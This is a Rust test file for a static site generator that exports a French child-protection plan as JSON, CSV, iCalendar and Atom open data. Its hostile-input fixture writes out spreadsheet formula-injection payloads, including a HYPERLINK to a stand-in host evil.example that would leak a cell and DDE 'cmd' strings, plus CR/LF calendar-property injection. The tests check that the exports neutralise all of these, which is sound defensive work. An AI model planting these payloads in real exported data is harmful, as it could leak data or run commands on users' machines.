//! Open data of the example: the JSON validates against its published JSON Schema, the
//! CSV files parse with one row per fiche and per sous-action, the iCalendar files parse
//! with one event per period, and a change in the sources changes the exports. Hostile
//! text stays inert: a formula is not run by a spreadsheet opening a CSV file, and control
//! characters neither add a line to a calendar nor make the feed unreadable.

use std::sync::OnceLock;

use crate::common::{Built, build, copy_site, fixture, repo};

fn site() -> &'static Built {
    static SITE: OnceLock<Built> = OnceLock::new();
    SITE.get_or_init(|| build(&repo()))
}

fn read(path: &str) -> String {
    std::fs::read_to_string(site().out().join(path)).unwrap()
}

fn rows(text: &str) -> Vec<csv::StringRecord> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.records().map(Result::unwrap).collect()
}

#[test]
fn the_json_validates_against_its_schema() {
    let schema: serde_json::Value =
        serde_json::from_str(&read("donnees/jalon.schema.json")).unwrap();
    let data: serde_json::Value = serde_json::from_str(&read("donnees/schema.json")).unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&data)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(data["fiches"].as_array().unwrap().len(), 19);
    // The schema is not a rubber stamp: a wrong value fails.
    let mut broken = data.clone();
    broken["fiches"][0]["sous_actions"][0]["periodes"][0]["debut"] = serde_json::json!("2019");
    assert!(!validator.is_valid(&broken));
    // Indicators and follow-up are described too.
    assert_eq!(data["indicateurs"].as_array().unwrap().len(), 8);
    let mut broken = data.clone();
    broken["indicateurs"][0]["unite"] = serde_json::json!("kilos");
    assert!(!validator.is_valid(&broken));
    let mut broken = data.clone();
    broken["fiches"][0]["sous_actions"][0]["suivi"][0]["statut"] = serde_json::json!("finie");
    assert!(!validator.is_valid(&broken));
}

#[test]
fn indicator_values_and_statuses_have_their_table_schemas() {
    let package: serde_json::Value =
        serde_json::from_str(&read("donnees/datapackage.json")).unwrap();
    let resource = |name: &str| {
        package["resources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|r| r["name"] == name)
            .unwrap_or_else(|| panic!("no resource {name}"))
            .clone()
    };
    let values = resource("valeurs-indicateurs");
    assert_eq!(
        values["schema"]["primaryKey"],
        serde_json::json!(["indicateur", "annee"])
    );
    let field = |resource: &serde_json::Value, name: &str| {
        resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["name"] == name)
            .unwrap()
            .clone()
    };
    assert_eq!(field(&values, "valeur")["type"], "number");
    let statuses = serde_json::json!([
        "non engagée",
        "en cours",
        "réalisée",
        "reportée",
        "abandonnée"
    ]);
    for name in ["fiches", "sous-actions", "suivi"] {
        assert_eq!(
            field(&resource(name), "statut")["constraints"]["enum"],
            statuses,
            "{name}"
        );
    }
    // Numbers in the CSV files are plain: a decimal point, no thousands separator.
    let values = rows(&read("donnees/valeurs-indicateurs.csv"));
    assert!(
        values
            .iter()
            .all(|r| r[3].is_empty() || r[3].parse::<f64>().is_ok())
    );
    assert!(rows(&read("donnees/suivi.csv")).len() > 100);
}

#[test]
fn csv_rows_end_with_crlf_as_the_data_package_dialect_says() {
    let package: serde_json::Value =
        serde_json::from_str(&read("donnees/datapackage.json")).unwrap();
    for resource in package["resources"].as_array().unwrap() {
        // No dialect declared: Frictionless's default applies, rows ending with CRLF.
        assert!(resource.get("dialect").is_none());
        let path = resource["path"].as_str().unwrap();
        let text = read(&format!("donnees/{path}"));
        let rows = csv::Reader::from_reader(text.as_bytes()).records().count();
        // Outside quotes (where a cell may hold a line break of its own), each line
        // ends with CRLF: one per row, and the header's.
        let mut quoted = false;
        let mut line_ends = 0;
        for (at, byte) in text.bytes().enumerate() {
            match byte {
                b'"' => quoted = !quoted,
                b'\n' if !quoted => {
                    assert_eq!(text.as_bytes()[at - 1], b'\r', "{path}, byte {at}");
                    line_ends += 1;
                }
                _ => {}
            }
        }
        assert_eq!(line_ends, rows + 1, "{path}");
        assert!(text.ends_with("\r\n"), "{path}");
    }
}

#[test]
fn csv_files_have_one_row_per_item() {
    let fiches = rows(&read("donnees/fiches.csv"));
    assert_eq!(fiches.len(), 19);
    assert_eq!(&fiches[11][0], "12");
    let sous_actions = rows(&read("donnees/sous-actions.csv"));
    assert_eq!(sous_actions.len(), 50);
    // Fiche 14, action 2: 2020 only, with ISO dates.
    let row = sous_actions
        .iter()
        .find(|r| &r[0] == "14" && &r[1] == "2")
        .unwrap();
    assert_eq!((&row[3], &row[4]), ("2020-01-01", "2020-12-31"));
    assert_eq!(rows(&read("donnees/acteurs.csv")).len(), 85);
    assert_eq!(rows(&read("donnees/pratiques.csv")).len(), 21);
    // The data package describes every CSV file, column for column.
    let package: serde_json::Value =
        serde_json::from_str(&read("donnees/datapackage.json")).unwrap();
    for resource in package["resources"].as_array().unwrap() {
        let path = resource["path"].as_str().unwrap();
        let header: Vec<String> =
            csv::Reader::from_reader(read(&format!("donnees/{path}")).as_bytes())
                .headers()
                .unwrap()
                .iter()
                .map(String::from)
                .collect();
        let fields: Vec<String> = resource["schema"]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap().to_string())
            .collect();
        assert_eq!(header, fields, "{path}");
    }
}

#[test]
fn calendars_parse_with_one_event_per_period() {
    let text = read("calendrier.ics");
    assert!(text.lines().all(|l| l.len() <= 76), "a line is not folded");
    let calendar: icalendar::Calendar = text.parse().unwrap();
    let events = calendar
        .components
        .iter()
        .filter(|c| c.as_event().is_some())
        .count();
    assert_eq!(events, 50);
    // A fiche's own calendar is a download link on its page, not a file of its own.
    assert!(!site().out().join("fiche/9.ics").exists());
    let page = site().page("fiche/9.html");
    assert_eq!(page.attrs(".agenda a", "download"), ["fiche-9.ics"]);
    let text = calendar_in_link(&page);
    assert!(text.lines().all(|l| l.len() <= 76), "a line is not folded");
    let fiche: icalendar::Calendar = text.parse().unwrap();
    assert_eq!(
        fiche
            .components
            .iter()
            .filter(|c| c.as_event().is_some())
            .count(),
        6
    );
    // Named after the fiche, not the schéma: imported with others, it says which it is.
    let name = text
        .replace("\r\n ", "")
        .lines()
        .find_map(|l| l.strip_prefix("X-WR-CALNAME:").map(str::to_string))
        .unwrap();
    assert!(name.starts_with("Fiche-action 9 : Renforcer"), "{name}");
}

#[test]
fn a_change_in_the_sources_changes_the_exports() {
    let copy = copy_site(&fixture("orientations"));
    let before =
        std::fs::read_to_string(build(copy.path()).out().join("donnees/fiches.csv")).unwrap();
    let fiche = copy.path().join("content/actions/1-2-1.md");
    let text = std::fs::read_to_string(&fiche).unwrap();
    std::fs::write(
        &fiche,
        text.replace(
            "Former les professionnels",
            "Former tous les professionnels",
        ),
    )
    .unwrap();
    let after =
        std::fs::read_to_string(build(copy.path()).out().join("donnees/fiches.csv")).unwrap();
    assert_ne!(before, after);
    assert!(after.contains("Former tous les professionnels au repérage"));
}

#[test]
fn sitemap_and_robots_list_every_page() {
    let sitemap = read("sitemap.xml");
    let locations: Vec<&str> = sitemap
        .lines()
        .filter_map(|l| l.trim().strip_prefix("<url><loc>"))
        .collect();
    let pages = site().pages().len() - 1; // every page but 404.html
    assert_eq!(locations.len(), pages);
    assert!(
        locations
            .iter()
            .all(|l| l.starts_with("https://schema-enfance.exemple.fr/"))
    );
    assert!(locations.iter().any(|l| l.contains("fiche/12.html")));
    assert!(read("robots.txt").contains("Sitemap: https://schema-enfance.exemple.fr/sitemap.xml"));
}

/// The dated sources of the example, counted from the files themselves.
fn dated_sources() -> usize {
    ["content/fiches", "content/pratiques"]
        .iter()
        .flat_map(|dir| std::fs::read_dir(repo().join(dir)).unwrap())
        .filter(|entry| {
            std::fs::read_to_string(entry.as_ref().unwrap().path())
                .unwrap()
                .contains("\nmis_a_jour:")
        })
        .count()
}

/// Indicators with at least one dated value, from the published model.
fn dated_indicators() -> usize {
    let model: serde_json::Value = serde_json::from_str(&read("donnees/schema.json")).unwrap();
    model["indicateurs"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| {
            i["valeurs"]
                .as_array()
                .unwrap()
                .iter()
                .any(|v| v["date"].is_string())
        })
        .count()
}

#[test]
fn the_feed_lists_dated_fiches_indicators_and_cards_newest_first() {
    let feed: atom_syndication::Feed = read("atom.xml").parse().unwrap();
    let entries = feed.entries();
    assert!(dated_sources() > 1);
    assert!(dated_indicators() > 0);
    assert_eq!(entries.len(), dated_sources() + dated_indicators());
    assert!(
        entries
            .windows(2)
            .all(|pair| pair[0].updated() >= pair[1].updated())
    );
    assert_eq!(feed.updated(), entries[0].updated());
    for entry in entries {
        let link = &entry.links()[0];
        let path = link
            .href()
            .strip_prefix("https://schema-enfance.exemple.fr/")
            .unwrap();
        assert!(site().out().join(path).is_file(), "{path}");
        assert_eq!(entry.id(), link.href());
    }
    assert!(
        entries
            .iter()
            .any(|e| e.title().as_str().starts_with("Fiche pratique"))
    );
    assert!(
        entries
            .iter()
            .any(|e| e.title().as_str().starts_with("Fiche-action"))
    );
    assert!(
        entries
            .iter()
            .any(|e| e.title().as_str().starts_with("Indicateur : "))
    );
    // Every page announces it, and a dated fiche shows its date.
    assert!(read("index.html").contains(r#"type="application/atom+xml""#));
    assert!(
        read("fiche/12.html").contains(r#"<time datetime="2025-11-03">3 novembre 2025</time>"#)
    );
}

#[test]
fn the_feed_needs_an_address_and_a_date() {
    let copy = copy_site(&fixture("orientations"));
    let built = build(copy.path());
    assert!(!built.out().join("atom.xml").exists());
    let fiche = copy.path().join("content/actions/1-2-1.md");
    let text = std::fs::read_to_string(&fiche).unwrap();
    std::fs::write(
        &fiche,
        text.replace("pilotes:", "mis_a_jour: 2026-01-15\npilotes:"),
    )
    .unwrap();
    let config = copy.path().join("jalon.yaml");
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, format!("url: https://exemple.fr/essai/\n{text}")).unwrap();
    let built = build(copy.path());
    let feed: atom_syndication::Feed = std::fs::read_to_string(built.out().join("atom.xml"))
        .unwrap()
        .parse()
        .unwrap();
    assert_eq!(feed.entries().len(), 1);
    assert_eq!(
        feed.entries()[0].links()[0].href(),
        "https://exemple.fr/essai/action/1-2-1.html"
    );
}

/// Replaces `from`, which must be there, in the file `path` of the site `root`.
fn edit(root: &std::path::Path, path: &str, from: &str, to: &str) {
    let file = root.join(path);
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains(from), "{path} has no {from:?}");
    std::fs::write(&file, text.replacen(from, to, 1)).unwrap();
}

/// The example with hostile text: cells a spreadsheet would run as formulas, and control
/// characters written as YAML escapes (`"\r"`, `"\f"`), which the YAML parser lets through.
fn hostile() -> &'static Built {
    static SITE: OnceLock<Built> = OnceLock::new();
    SITE.get_or_init(|| {
        let copy = copy_site(&repo());
        let root = copy.path();
        let fa01 = "content/fiches/fa-01.md";
        edit(
            root,
            fa01,
            "titre: Favoriser l'interconnaissance des acteur·rices et la connaissance des ressources",
            r#"titre: '=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")'"#,
        );
        edit(
            root,
            fa01,
            "pilotes:\n  - ase-territoires",
            "pilotes:\n  - libre: \"\\t=1+2\"\n  - ase-territoires",
        );
        edit(
            root,
            fa01,
            "  libelle: Démarrage en 2019\n",
            concat!(
                "  libelle: Démarrage en 2019\n",
                "  jalons:\n",
                "    - date: 2021-06-15\n",
                "      libelle: \"Comité de pilotage\\rX-INJECTE:oui\"\n",
                "    - date: 2022-06-15\n",
                "      libelle: \"Bilan\\r\\nX-INJECTE:oui\\f\\tà mi-parcours\"\n",
            ),
        );
        edit(
            root,
            fa01,
            "Premières rencontres territoriales entre professionnels de la prévention et de la protection.",
            "+33 1 43 93 93 93 : rappeler le service",
        );
        edit(
            root,
            fa01,
            "Bilan présenté au comité technique de l'ODPE.",
            "- Bilan présenté au comité technique de l'ODPE.",
        );
        edit(
            root,
            "content/fiches/fa-12.md",
            "titre: \"(Ré)affirmer l'autonomie",
            "titre: \"(Ré)affirmer\\fl'autonomie",
        );
        edit(
            root,
            "schema-data/acteurs.yaml",
            "nom: Conseil départemental de la Seine-Saint-Denis\n",
            "nom: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
        );
        edit(
            root,
            "schema-data/indicateurs.yaml",
            "note: file active depuis le 1er mars 2023",
            "note: \"-2+3+cmd|' /C calc'!A0\"",
        );
        edit(
            root,
            "content/pratiques/1a.md",
            "titre: Conférences familiales",
            "titre: =1+1 Conférences familiales",
        );
        build(root)
    })
}

fn hostile_read(path: &str) -> String {
    std::fs::read_to_string(hostile().out().join(path)).unwrap()
}

/// The row of a CSV file whose first columns are `key`.
fn row_of(path: &str, key: &[&str]) -> csv::StringRecord {
    rows(&hostile_read(path))
        .into_iter()
        .find(|r| r.iter().zip(key).all(|(cell, k)| cell == *k))
        .unwrap_or_else(|| panic!("{path}: no row {key:?}"))
}

/// Whether a spreadsheet opening the cell would run it as a formula.
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn csv_text_a_spreadsheet_would_run_starts_with_a_quote() {
    let fiche = row_of("donnees/fiches.csv", &["1"]);
    assert_eq!(
        &fiche[1],
        r#"'=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
    );
    assert!(
        fiche[3].starts_with("'\t=1+2 ; ase-territoires"),
        "{:?}",
        &fiche[3]
    );
    let acteur = row_of("donnees/acteurs.csv", &["cd93"]);
    assert_eq!(&acteur[2], "'@SUM(1+1)*cmd|' /C calc'!A0");
    let suivi = row_of("donnees/suivi.csv", &["1", "", "2019"]);
    assert_eq!(&suivi[5], "'+33 1 43 93 93 93 : rappeler le service");
    let sous_action = row_of("donnees/sous-actions.csv", &["1", "2"]);
    assert_eq!(
        &sous_action[9],
        "'- Bilan présenté au comité technique de l'ODPE."
    );
    let valeur = row_of(
        "donnees/valeurs-indicateurs.csv",
        &["journees-cer", "10 ; 16", "2023"],
    );
    assert_eq!(&valeur[10], "'-2+3+cmd|' /C calc'!A0");
    let pratique = row_of("donnees/pratiques.csv", &["1a"]);
    assert!(
        pratique[1].starts_with("'=1+1 Conférences"),
        "{:?}",
        &pratique[1]
    );
    // No text cell of any file would run: the column's type in the data package decides.
    let package: serde_json::Value =
        serde_json::from_str(&hostile_read("donnees/datapackage.json")).unwrap();
    for resource in package["resources"].as_array().unwrap() {
        let path = format!("donnees/{}", resource["path"].as_str().unwrap());
        let fields = resource["schema"]["fields"].as_array().unwrap();
        for row in rows(&hostile_read(&path)) {
            for (cell, field) in row.iter().zip(fields) {
                if field["type"] == "string" {
                    assert!(
                        !runs_as_formula(cell),
                        "{path}, {}: {cell:?}",
                        field["name"]
                    );
                }
            }
        }
    }
}

#[test]
fn csv_numbers_and_the_json_keep_their_exact_values() {
    // A negative number is a number, not a formula: it stays as it is.
    let valeur = row_of(
        "donnees/valeurs-indicateurs.csv",
        &["journees-cer", "10 ; 16", "2022"],
    );
    assert_eq!(
        (&valeur[3], &valeur[6], &valeur[7]),
        ("2019", "3306", "-1287")
    );
    assert!(
        rows(&hostile_read("donnees/valeurs-indicateurs.csv"))
            .iter()
            .all(|r| !r[7].starts_with('\''))
    );
    // The JSON is not opened by spreadsheets: it keeps the text exactly as written.
    let data: serde_json::Value =
        serde_json::from_str(&hostile_read("donnees/schema.json")).unwrap();
    assert_eq!(
        data["fiches"][0]["titre"],
        r#"=HYPERLINK("https://evil.example/?"&B2;"Voir la fiche")"#
    );
    assert_eq!(data["fiches"][0]["pilotes"][0]["texte"], "\t=1+2");
    assert_eq!(data["acteurs"][0]["nom"], "@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(
        data["indicateurs"][0]["valeurs"][1]["note"],
        "-2+3+cmd|' /C calc'!A0"
    );
}

/// The lines of an iCalendar text: every one ends with CR LF, and no CR or LF is left
/// inside one (a bare CR lets a parser split the line and read a property of its own).
fn ical_lines(text: &str) -> Vec<&str> {
    let lines = text
        .strip_suffix("\r\n")
        .expect("the last line ends with CR LF");
    let lines: Vec<&str> = lines.split("\r\n").collect();
    for line in &lines {
        assert!(
            !line.contains(['\r', '\n']),
            "a bare line break in {line:?}"
        );
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "a control character in {line:?}"
        );
    }
    lines
}

#[test]
fn calendar_text_keeps_line_breaks_escaped_and_drops_control_characters() {
    use icalendar::Component as _;
    let text = hostile_read("calendrier.ics");
    let lines = ical_lines(&text);
    assert!(!lines.iter().any(|l| l.starts_with("X-INJECTE")));
    let calendar: icalendar::Calendar = text.parse().unwrap();
    assert!(calendar.components.iter().all(|c| {
        c.as_event()
            .is_none_or(|e| e.property_value("X-INJECTE").is_none())
    }));
    // CR and CR LF are line breaks of the text, escaped; the form feed is gone, the tab stays.
    let unfolded = text.replace("\r\n ", "");
    let summaries: Vec<&str> = unfolded
        .split("\r\n")
        .filter_map(|l| l.strip_prefix("SUMMARY:Jalon – Fiche-action 1 : "))
        .collect();
    assert_eq!(
        summaries,
        [
            "Comité de pilotage\\nX-INJECTE:oui",
            "Bilan\\nX-INJECTE:oui\tà mi-parcours"
        ]
    );
    // The fiche's own calendar, in the link of its page, is named after its title.
    let page = hostile().page("fiche/12.html");
    let text = calendar_in_link(&page);
    ical_lines(&text);
    assert!(
        text.replace("\r\n ", "")
            .contains("(Ré)affirmerl'autonomie")
    );
}

#[test]
fn the_feed_stays_well_formed_with_control_characters() {
    let text = hostile_read("atom.xml");
    // Characters XML 1.0 forbids make the whole feed unreadable.
    assert!(
        !text
            .chars()
            .any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')
                || matches!(c, '\u{fffe}' | '\u{ffff}')),
        "a character XML does not allow"
    );
    // The parser of atom_syndication does not check characters: the test above does.
    let feed: atom_syndication::Feed = text.parse().unwrap();
    let titles: Vec<&str> = feed.entries().iter().map(|e| e.title().as_str()).collect();
    let fiche = "Fiche-action 12 : (Ré)affirmerl'autonomie comme une finalité de l'accompagnement";
    assert!(titles.contains(&fiche), "{titles:?}");
    // The sitemap writes addresses only, from jalon.yaml and the pages' ids, escaped alike.
    assert!(
        !hostile_read("sitemap.xml")
            .chars()
            .any(|c| c.is_control() && c != '\n')
    );
}

/// The calendar a fiche's page carries in its « Ajouter à mon agenda » link.
fn calendar_in_link(page: &crate::common::Page) -> String {
    let link = page.attrs(".agenda a", "href").remove(0);
    let encoded = link
        .strip_prefix("data:text/calendar;charset=utf-8,")
        .unwrap();
    percent_encoding::percent_decode_str(encoded)
        .decode_utf8()
        .unwrap()
        .into_owned()
}
